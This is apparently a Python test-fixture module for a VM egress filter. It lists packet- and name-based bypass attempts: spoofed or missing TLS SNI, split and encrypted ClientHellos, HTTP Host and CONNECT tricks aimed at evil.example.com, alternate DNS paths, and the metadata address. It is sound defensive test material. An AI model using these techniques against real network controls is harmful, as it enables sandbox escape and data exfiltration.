# SPDX-FileCopyrightText: stockyard contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks of a guest on an uplink with ``egress: allow``: by packets, by names of connections, and
by questions to the name server.
"""

from __future__ import annotations

import socket
import ssl
import struct
from contextlib import suppress
from dataclasses import dataclass

from stockyard import HostSpec
from stockyard.providers.libvirt import uplink_rules

from .uplink_attacks import ETH_P_8021Q, ETH_P_IP, GUEST_MAC, TCP, UDP, packet, segment

GOOD, EVIL, REGISTRY, LISTED, INNER = (
    "203.0.113.80",
    "203.0.113.81",
    "203.0.113.82",
    "203.0.113.88",
    "10.77.0.5",
)
PRIVATE, OWN, METADATA = "10.9.8.7", "203.0.113.1", "169.254.169.254"
ALLOWED = HostSpec(
    egress="allow",
    egress_allow=(
        "good.example.org",
        "*.wild.example.org",
        "registry.example.org:5000",
        "secure.example.org:443",
        f"{LISTED}:7777",
        "10.77.0.0/24",
    ),
)
# The names that the hypervisor's name server knows; a name instead of an address is an alias.
ZONE = {
    "good.example.org": GOOD,
    "sub.good.example.org": EVIL,
    "a.wild.example.org": GOOD,
    "wild.example.org": EVIL,
    "evilwild.example.org": EVIL,
    "alias.wild.example.org": "evil.example.com",
    "evil.example.com": EVIL,
    "loopback.wild.example.org": "127.0.0.1",
    "own.wild.example.org": OWN,
    "private.wild.example.org": PRIVATE,
    "metadata.wild.example.org": METADATA,
    "inner.wild.example.org": INNER,
    "registry.example.org": REGISTRY,
    "secure.example.org": GOOD,
}
# Each attack by packets has an address to itself, which is behind the other machines.
FIRST = 10


@dataclass(frozen=True)
class PacketAttack:
    """A packet that must not leave the uplink.

    :param target: its destination; empty for an address of this attack alone.
    """

    name: str
    protocol: int
    port: int
    disguise: str = ""
    target: str = ""


PACKETS = (
    PacketAttack("TCP to a port that is not declared", TCP, 9999),
    PacketAttack("UDP to port 443, as QUIC", UDP, 443),
    PacketAttack("UDP to port 80", UDP, 80),
    PacketAttack("a question to another name server", UDP, 53),
    PacketAttack("a question over TCP to another name server", TCP, 53),
    PacketAttack("DNS over TLS", TCP, 853),
    PacketAttack("UDP in fragments to port 443", UDP, 443, "fragments"),
    PacketAttack("TCP with options of IP", TCP, 9999, "options"),
    PacketAttack("TCP in a frame with a priority tag", TCP, 9999, "tag"),
    PacketAttack("TCP to port 443 from another source", TCP, 443, "source"),
    PacketAttack("TCP to port 443 without a name", TCP, 443),
    PacketAttack("TCP to port 80 without a name", TCP, 80),
    PacketAttack("TCP to another port of a declared address", TCP, 7778, target=LISTED),
    PacketAttack("TCP to a port of a name before its question", TCP, 5000, target=REGISTRY),
    PacketAttack("UDP to a port of a name", UDP, 5000, target=REGISTRY),
    PacketAttack("TCP to a private address", TCP, 443, target=PRIVATE),
    PacketAttack("UDP to the metadata", UDP, 80, target=METADATA),
)


def target(attack: PacketAttack) -> str:
    """Return the destination of an attack."""
    return attack.target or f"198.51.100.{FIRST + PACKETS.index(attack)}"


def frames(attack: PacketAttack, gateway: bytes) -> list[bytes]:
    """Return the frames of an attack by packets."""
    source = "198.18.0.99" if attack.disguise == "source" else uplink_rules.ADDRESS
    destination = target(attack)
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    payload = segment(attack.protocol, attack.port, addresses)
    if attack.disguise == "fragments":
        packets = [
            packet(source, destination, attack.protocol, payload[:16], flags=0x2000),
            packet(source, destination, attack.protocol, payload[16:], flags=2),
        ]
    else:
        options = b"\x01\x01\x01\x00" if attack.disguise == "options" else b""
        packets = [packet(source, destination, attack.protocol, payload, options=options)]
    kind = struct.pack("!H", ETH_P_IP)
    if attack.disguise == "tag":
        kind = struct.pack("!HH", ETH_P_8021Q, 0xA000) + kind
    return [gateway + GUEST_MAC + kind + text for text in packets]


@dataclass(frozen=True)
class NameAttack:
    """A connection that must not reach a machine.

    :param parts: the bytes to send; an answer is awaited between them. ``TOKEN`` in them becomes
        the token of the attack.
    :param reached: the address at which its token must not arrive; empty for each address.
    """

    name: str
    address: str
    port: int
    parts: tuple[bytes, ...]
    reached: str = ""

    @property
    def token(self) -> bytes:
        """Return bytes that no other attack sends."""
        return f"T{list(ATTACK_NAMES).index(self.name):04d}".encode()

    def messages(self) -> list[bytes]:
        """Return the bytes to send."""
        return [part.replace(b"TOKEN", self.token) for part in self.parts]


def hello(name: str) -> bytes:
    """Return a ClientHello, with a token in the list of protocols."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["TOKEN"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    connection = context.wrap_bio(incoming, outgoing, server_hostname=name or None)
    with suppress(ssl.SSLWantReadError):
        connection.do_handshake()
    return outgoing.read()


def encrypted(name: str) -> bytes:
    """Return a ClientHello with the extension of an encrypted one."""
    body = struct.pack("!BHHBH", 0, 1, 1, 7, 32) + bytes(32) + struct.pack("!H", 64) + bytes(64)
    return extended(hello(name), struct.pack("!HH", 0xFE0D, len(body)) + body)


def extended(text: bytes, extension: bytes) -> bytes:
    """Return a ClientHello with one more extension at its end."""
    place = 9 + 2 + 32
    place += 1 + text[place]
    place += 2 + int.from_bytes(text[place : place + 2], "big")
    place += 1 + text[place]
    size = int.from_bytes(text[place : place + 2], "big") + len(extension)
    body = text[9:place] + struct.pack("!H", size) + text[place + 2 :] + extension
    return handshake(body)


def handshake(body: bytes) -> bytes:
    """Return the body of a ClientHello in one record."""
    message = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(message)) + message


def split(name: str, size: int = 60) -> bytes:
    """Return a ClientHello in two records."""
    message = hello(name)[5:]
    parts = message[:size], message[size:]
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(part)) + part for part in parts)


def request(host: str, *lines: str, line: str = "GET /TOKEN HTTP/1.1") -> bytes:
    """Return a request of HTTP."""
    return "\r\n".join([line, f"Host: {host}", *lines, "", ""]).encode()


FINE = "good.example.org"
NAMES = (
    NameAttack("TLS: a name that is not declared", EVIL, 443, (hello("evil.example.com"),)),
    NameAttack(
        "TLS: the same at an address of an allowed name", GOOD, 443, (hello("evil.example.com"),)
    ),
    NameAttack("TLS: no name", GOOD, 443, (hello(""),)),
    NameAttack("TLS: a name below an exact name", GOOD, 443, (hello("sub.good.example.org"),)),
    NameAttack("TLS: the domain of a wildcard", GOOD, 443, (hello("wild.example.org"),)),
    NameAttack("TLS: a name that ends like a domain", GOOD, 443, (hello("evilwild.example.org"),)),
    NameAttack("TLS: an allowed name at another machine", EVIL, 443, (hello(FINE),), EVIL),
    NameAttack("TLS: an encrypted hello", GOOD, 443, (encrypted(FINE),)),
    NameAttack("TLS: a hello in two records", GOOD, 443, (split(FINE),)),
    NameAttack("TLS: other bytes", GOOD, 443, (b"SSH-2.0-TOKEN\r\n",)),
    NameAttack("TLS: a name of another port", GOOD, 443, (hello("registry.example.org"),)),
    NameAttack("TLS: a name with an own address", GOOD, 443, (hello("own.wild.example.org"),), OWN),
    NameAttack(
        "TLS: a name with a private address",
        GOOD,
        443,
        (hello("private.wild.example.org"),),
        PRIVATE,
    ),
    NameAttack("HTTP: a name that is not declared", EVIL, 80, (request("evil.example.com"),)),
    NameAttack(
        "HTTP: the same at an address of an allowed name", GOOD, 80, (request("evil.example.com"),)
    ),
    NameAttack(
        "HTTP: a second request on the connection",
        GOOD,
        80,
        (request(FINE, line="GET / HTTP/1.1"), request("evil.example.com")),
    ),
    NameAttack(
        "HTTP: another name in the request line",
        GOOD,
        80,
        (request(FINE, line="GET http://evil.example.com/TOKEN HTTP/1.1"),),
    ),
    NameAttack(
        "HTTP: CONNECT",
        GOOD,
        80,
        (request(FINE, "X: TOKEN", line="CONNECT evil.example.com:443 HTTP/1.1"),),
    ),
    NameAttack("HTTP: two names", GOOD, 80, (request(FINE, "Host: evil.example.com"),)),
    NameAttack("HTTP: no name", GOOD, 80, (b"GET /TOKEN HTTP/1.0\r\n\r\n",)),
    NameAttack("HTTP: a name of another port", GOOD, 80, (request("secure.example.org"),)),
    NameAttack(
        "HTTP: a name with an own address", GOOD, 80, (request("own.wild.example.org"),), OWN
    ),
    NameAttack(
        "HTTP: a name with a private address",
        GOOD,
        80,
        (request("private.wild.example.org"),),
        PRIVATE,
    ),
    NameAttack("HTTP: an allowed name at another machine", EVIL, 80, (request(FINE),), EVIL),
)
# Not attacks: they show that connections of the test arrive.
PERMITTED = (
    NameAttack("an exact name over TLS", EVIL, 443, (hello(FINE),), GOOD),
    NameAttack("a name in upper case over TLS", GOOD, 443, (hello("GOOD.example.ORG"),), GOOD),
    NameAttack("a name of a wildcard over TLS", GOOD, 443, (hello("a.wild.example.org"),), GOOD),
    NameAttack("an alias over TLS", GOOD, 443, (hello("alias.wild.example.org"),), EVIL),
    NameAttack("a name of port 443 over TLS", GOOD, 443, (hello("secure.example.org"),), GOOD),
    NameAttack(
        "a private address that is declared over TLS",
        GOOD,
        443,
        (hello("inner.wild.example.org"),),
        INNER,
    ),
    NameAttack("an exact name over HTTP", GOOD, 80, (request(FINE),), GOOD),
    NameAttack(
        "a second request to another name over HTTP",
        GOOD,
        80,
        (request(FINE, line="GET / HTTP/1.1"), request("alias.wild.example.org:80")),
        EVIL,
    ),
    NameAttack("a declared address and port", LISTED, 7777, (b"TOKEN",), LISTED),
    NameAttack("a declared network", INNER, 443, (b"TOKEN",), INNER),
)
ATTACK_NAMES = {attack.name: attack for attack in NAMES + PERMITTED}
